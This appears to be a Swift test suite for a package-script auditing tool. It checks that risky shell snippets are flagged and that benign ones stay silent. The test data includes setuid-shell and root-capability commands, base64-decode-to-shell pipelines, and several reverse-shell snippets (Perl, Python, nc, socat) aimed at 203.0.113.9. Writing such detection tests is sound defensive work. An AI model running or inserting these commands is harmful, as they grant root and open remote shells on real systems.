import AuditModel
import IntegrityJudgement
import Testing

/// Set-id bits, capabilities, programs left running, decoders, sockets and interpreters.
@Suite struct RightsAndProcessesTests {
    static let rights: [CodeCase] = [
        CodeCase("set-user-id-shell", .high, "chmod 06755 /bin/bash"),
        CodeCase("set-user-id-shell", .high, "chmod 2755 /bin/sh"),
        CodeCase("set-user-id-shell", .high, "chmod g+s /usr/bin/python3"),
        CodeCase("set-user-id-shell", .high, "M=4755; chmod $M /usr/bin/perl"),
        CodeCase("set-user-id-shell", .high, "install -m 4755 /opt/x /tmp/y"),
        CodeCase("set-user-id-shell", .high, "install --mode=u+s,a+x /bin/dash /opt/y"),
        CodeCase("set-user-id-shell", .high, "find /bin -name bash -exec chmod 4755 /bin/bash \\;"),
        CodeCase("set-user-id-shell", .high, "dpkg-statoverride --add root root 4755 /bin/bash"),
        CodeCase("set-user-id-shell", .high, "python3 -c \"import os; os.chmod('/bin/bash', 0o4755)\""),
        CodeCase("set-user-id-shell", .high, "#!/usr/bin/perl\nchmod 04755, \"/bin/bash\";"),
        CodeCase("set-id", .low, "chmod 4755 /usr/lib/x/helper"),
        CodeCase("set-id", .low, "chmod 2755 /usr/games/scores"),
        CodeCase("root-capability", .high, "setcap cap_setuid+ep /opt/x/agent"),
        CodeCase("root-capability", .high, "setcap =ep /opt/x/agent"),
        CodeCase("root-capability", .high, "setcap all=eip /usr/lib/x/agent"),
        CodeCase("root-capability", .high, "C=cap_chown; setcap $C,cap_net_raw=p /opt/x/agent"),
        CodeCase("capability", .medium, "setcap cap_sys_admin+ep /opt/x/agent"),
        CodeCase("capability", .high, "setcap cap_dac_override+ep /usr/bin/perl"),
        CodeCase("capability", .high, "setcap cap_net_raw+ep /var/tmp/x"),
        CodeCase("capability", .low, "setcap cap_net_bind_service=+ep /usr/share/x/node/bin/node"),
        CodeCase("capability", .low, "setcap cap_net_raw,cap_net_admin+ep /usr/bin/dumpcap"),
        CodeCase("capability", .low, "setcap cap_dac_override,cap_net_admin=ep /bin/ip", package: "iproute2"),
    ]

    @Test(arguments: rights)
    func `a right is judged by what it gives, and to what`(_ code: CodeCase) {
        #expect(code.loudest == code.severity)
    }

    static let processes: [CodeCase] = [
        CodeCase("detached-process", .high, "sudo chmod 2755 /usr/games/s && /usr/games/s & /usr/games/x &"),
        CodeCase("program-in-world-writable-folder", .high, "echo '/tmp/x --go' | at now"),
        CodeCase("program-in-world-writable-folder", .high, "ln -s /dev/shm/x /lib/systemd/system/x.service"),
        CodeCase("program-in-world-writable-folder", .high, "update-alternatives --install /usr/bin/x x /tmp/x 9"),
        CodeCase("program-in-world-writable-folder", .high, "systemctl enable --now /tmp/x.service"),
        CodeCase("detached-process", .high, "/var/tmp/x &"),
        CodeCase("detached-process", .high, "cd /dev/shm; ./x &"),
        CodeCase("detached-process", .high, "/usr/lib/.x/agent &>/dev/null &"),
        CodeCase("detached-process", .high, "start-stop-daemon --start --background --exec /var/tmp/x"),
        CodeCase("detached-process", .high, "systemd-run /tmp/x"),
        CodeCase("odd-interpreter", .high, "#!/tmp/sh\ntrue"),
        CodeCase("odd-interpreter", .high, "#!/usr/lib/.x/sh\ntrue"),
        CodeCase("odd-interpreter", .medium, "#!/usr/lib/x/run\ntrue"),
        CodeCase("code-in-first-line", .high, "#!/usr/bin/awk BEGIN{system(\"id\")}\n"),
    ]

    @Test(arguments: processes)
    func `a program left running, or an interpreter of no package, is seen`(_ code: CodeCase) {
        #expect(code.loudest == code.severity)
    }

    static let decoders: [CodeCase] = [
        "echo aWQK | base64 --dec | sh", "echo aWQK | base64 --d | bash", "echo x | tr a-z n-za-m | sh",
        "echo curl_x | tr _ ' ' | sh", "eval \"$(echo x | tr 'A-Za-z' 'N-ZA-Mn-za-m')\"", "zcat /usr/share/x/y | sh",
        "gzip -dc /usr/share/x/y | sh", "xz --decompress --stdout < /x | bash", "tar -xOf /x y | sh",
        "xxd -r -p /x | sh",
        "openssl enc -base64 -d -in /x | sh", "openssl aes-256-cbc -d -in /x | sh", "openssl base64 -d < /x | sh",
        "rev /x | sh", "printf '\\151\\144\\12\\151' | sh", "python3 -m base64 -d /x | sh",
        "perl -MMIME::Base64 -e 'print decode_base64(\"aWQK\")' | sh", "jq -r '.x|@base64d' /x | sh",
        "echo aWQK | base64 -d | at now", "gpg --decr /x | sh",
    ].map { CodeCase("decoded-code", .high, $0) }

    @Test(arguments: decoders)
    func `whatever decodes into a shell is high`(_ code: CodeCase) {
        #expect(code.loudest == .high)
    }

    static let sockets: [CodeCase] = [
        "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s=IO::Socket::INET->new(\"203.0.113.9:9\");\nwhile(<$s>){ print $s `$_`; }",
        "#!/usr/bin/python3\nimport socket,subprocess\ns=socket.create_connection((\"203.0.113.9\",9))\nwhile True:\n"
            + "  s.send(subprocess.getoutput(s.recv(999).decode()).encode())",
        "python3 - <<E\nimport socket, os\ns = socket.socket()\ns.connect((\"203.0.113.9\", 9))\nos.system(s.recv(99))\nE",
        "mkfifo /opt/f\nnc 203.0.113.9 9 < /opt/f > /opt/g &\nsh > /opt/f < /opt/g",
        "mkfifo /opt/f\nsh < /opt/f &\nopenssl s_client -connect 203.0.113.9:9 > /opt/f",
        "N=nc; $N -e /bin/sh 203.0.113.9 9", "socat tcp:203.0.113.9:9 system:sh",
    ].map { CodeCase("remote-shell", .high, $0) }

    @Test(arguments: sockets)
    func `a connection that runs commands is seen over several lines`(_ code: CodeCase) {
        #expect(code.loudest == .high)
    }

    @Test(arguments: [
        "#!/usr/bin/perl\nuse strict;\nsystem(\"true\");",
        "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run([\"x\"])",
        "#!/usr/bin/env -S perl -w\nprint 1;", "zcat /x | grep -q y", "echo A | tr A-Z a-z | grep -q a", "sleep 1 &",
        "eval \"$(echo a b | tr ' ' '\\n')\"", "chmod 0755 /usr/bin/x", "setcap -r /usr/bin/x", "mkfifo /run/x",
        "setcap cap_setuid-ep /usr/bin/x", "base64 /x | cat", "/usr/lib/x/daemon &", "chmod -s /usr/bin/x",
        "gzip -9 /x | cat",
        "python3 - <<E\nprint(1)\nE", "dpkg-statoverride --add root adm 0750 /usr/bin/x", "/usr/games/x --version",
    ])
    func `what packages do every day with them is silent`(_ code: String) {
        #expect(CodeCase("", .info, code).matches.map(\.pattern) == [])
    }
}
